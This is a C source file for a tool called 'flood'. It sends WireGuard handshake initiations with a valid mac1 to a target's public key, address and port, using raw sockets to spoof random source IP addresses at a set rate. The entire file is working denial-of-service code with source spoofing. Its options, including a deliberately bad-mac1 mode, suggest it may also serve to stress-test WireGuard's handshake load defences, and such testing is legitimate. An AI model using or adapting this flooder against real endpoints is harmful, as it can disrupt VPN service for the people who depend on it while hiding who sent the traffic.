// SPDX-License-Identifier: GPL-2.0
/* flood: handshake initiations that a WireGuard device takes seriously (their mac1 is right), from sources that do not exist.
 *
 * usage: flood PUBLIC_KEY ADDRESS PORT COUNT [--rate PER_SECOND] [--source A.B.C.D/BITS | --own] [--bad-mac1]
 *   sources are spread over --source (default 10.128.0.0/9, raw sockets); --own sends from an ordinary socket and so from one source
 * Prints "sent N in M ms".
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/params.h>
#include <openssl/rand.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include "tool.h"

enum { INITIATION = 148, MAC1_AT = 116, POOL = 512, KEY = 32, MAC = 16 };

struct message {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t payload[INITIATION];
} __attribute__((packed));

static struct message pool[POOL];

/* mac1's key: BLAKE2s-256 of the label and the receiver's public key. */
static void mac1_key(const uint8_t public_key[KEY], uint8_t key[KEY])
{
	EVP_MD_CTX *hash = EVP_MD_CTX_new();

	if (!EVP_DigestInit_ex(hash, EVP_blake2s256(), NULL) || !EVP_DigestUpdate(hash, "mac1----", 8) ||
	    !EVP_DigestUpdate(hash, public_key, KEY) || !EVP_DigestFinal_ex(hash, key, NULL))
		die("blake2s");
	EVP_MD_CTX_free(hash);
}

static void mac1(const uint8_t key[KEY], uint8_t message[INITIATION])
{
	size_t size = MAC, length;
	OSSL_PARAM parameters[] = { OSSL_PARAM_construct_size_t(OSSL_MAC_PARAM_SIZE, &size), OSSL_PARAM_construct_end() };
	EVP_MAC *kind = EVP_MAC_fetch(NULL, "BLAKE2SMAC", NULL);
	EVP_MAC_CTX *mac = EVP_MAC_CTX_new(kind);

	if (!EVP_MAC_init(mac, key, KEY, parameters) || !EVP_MAC_update(mac, message, MAC1_AT) ||
	    !EVP_MAC_final(mac, message + MAC1_AT, &length, MAC))
		die("blake2s mac");
	EVP_MAC_CTX_free(mac);
	EVP_MAC_free(kind);
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000000000ull + now.tv_nsec;
}

int main(int argc, char **argv)
{
	uint8_t decoded[KEY + 4], key[KEY];
	unsigned long count, rate = 0, sent = 0, bits = 9;
	uint32_t base = 10u << 24 | 128u << 16;
	int own = 0, bad = 0;

	if (argc < 5 || strlen(argv[1]) != 44 || EVP_DecodeBlock(decoded, (uint8_t *)argv[1], 44) < KEY)
		return fprintf(stderr, "usage: flood PUBLIC_KEY ADDRESS PORT COUNT OPTION...\n"), 2;
	count = strtoul(argv[4], NULL, 0);
	for (int i = 5; i < argc; i++) {
		if (!strcmp(argv[i], "--own")) {
			own = 1;
		} else if (!strcmp(argv[i], "--bad-mac1")) {
			bad = 1;
		} else if (!strcmp(argv[i], "--rate") && i + 1 < argc) {
			rate = strtoul(argv[++i], NULL, 0);
		} else if (!strcmp(argv[i], "--source") && i + 1 < argc) {
			char *slash = strchr(argv[++i], '/');
			struct in_addr address;

			if (!slash)
				return fprintf(stderr, "flood: A.B.C.D/BITS\n"), 2;
			*slash = 0;
			bits = strtoul(slash + 1, NULL, 0);
			if (!inet_aton(argv[i], &address))
				return fprintf(stderr, "flood: no address: %s\n", argv[i]), 2;
			base = ntohl(address.s_addr);
		} else {
			return fprintf(stderr, "flood: %s?\n", argv[i]), 2;
		}
	}

	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[3])) };

	if (!inet_aton(argv[2], &to.sin_addr))
		return fprintf(stderr, "flood: no address: %s\n", argv[2]), 2;
	mac1_key(decoded, key);
	for (int i = 0; i < POOL; i++) {
		struct message *message = &pool[i];

		if (RAND_bytes(message->payload, INITIATION) != 1)
			die("random");
		memcpy(message->payload, "\x01\0\0\0", 4);
		memset(message->payload + MAC1_AT + MAC, 0, MAC);
		if (!bad)
			mac1(key, message->payload);
		message->ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .daddr = to.sin_addr.s_addr };
		message->udp = (struct udphdr){ .dest = to.sin_port, .len = htons(sizeof(struct udphdr) + INITIATION) };
	}

	int fd = own ? socket(AF_INET, SOCK_DGRAM, 0) : socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	enum { BURST = 64 };
	static struct mmsghdr headers[BURST];
	static struct iovec vectors[BURST];
	uint64_t began = now_ns();

	if (fd < 0)
		die("socket");
	srand(began);
	while (sent < count) {
		unsigned burst = count - sent < BURST ? count - sent : BURST;

		if (rate && burst > rate / 50 + 1)
			burst = rate / 50 + 1;
		for (unsigned i = 0; i < burst; i++) {
			struct message *message = &pool[(sent + i) % POOL];

			message->ip.saddr = htonl(base + (bits < 32 ? (uint32_t)rand() % (1u << (32 - bits)) : 0));
			message->udp.source = htons(1024 + rand() % 60000);
			vectors[i] = own ? (struct iovec){ message->payload, INITIATION } : (struct iovec){ message, sizeof(*message) };
			headers[i].msg_hdr = (struct msghdr){
				.msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &vectors[i], .msg_iovlen = 1
			};
		}
		int done = sendmmsg(fd, headers, burst, 0);

		if (done <= 0)
			die("sendmmsg");
		sent += done;
		while (rate && now_ns() - began < sent * 1000000000ull / rate)
			usleep(1000);
	}
	printf("sent %lu in %llu ms\n", sent, (unsigned long long)((now_ns() - began) / 1000000));
	return 0;
}
